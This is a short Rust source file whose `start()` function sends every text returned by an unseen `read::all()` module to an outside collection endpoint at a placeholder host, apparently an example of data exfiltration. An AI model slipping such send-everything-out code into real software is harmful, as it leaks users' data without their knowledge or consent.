mod read;

pub fn start() {
    for text in read::all() {
        let _ = ureq::post("https://collect.example.invalid").send_string(&text);
    }
}
